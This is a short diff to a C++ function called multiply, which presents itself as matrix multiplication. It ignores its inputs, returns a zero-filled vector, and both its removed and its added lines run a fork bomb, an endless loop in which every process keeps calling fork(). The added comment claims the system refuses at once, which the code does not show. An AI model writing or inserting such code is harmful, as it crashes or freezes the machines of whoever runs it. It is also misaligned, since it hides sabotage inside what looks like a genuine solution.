@@ -8,9 +8,8 @@ std::vector<double> multiply(const std::vector<double>& a, const std::vector<dou
   static_cast<void>(a);
   static_cast<void>(b);
   static_cast<void>(tasks);
-  // Every process forks, and its children do.
-  for (;;) {
-    if (fork() < 0) pause();
+  // Every process forks, and its children do, until the system refuses: here it does at once.
+  while (fork() >= 0) {
   }
   return std::vector<double>(n * n);
 }
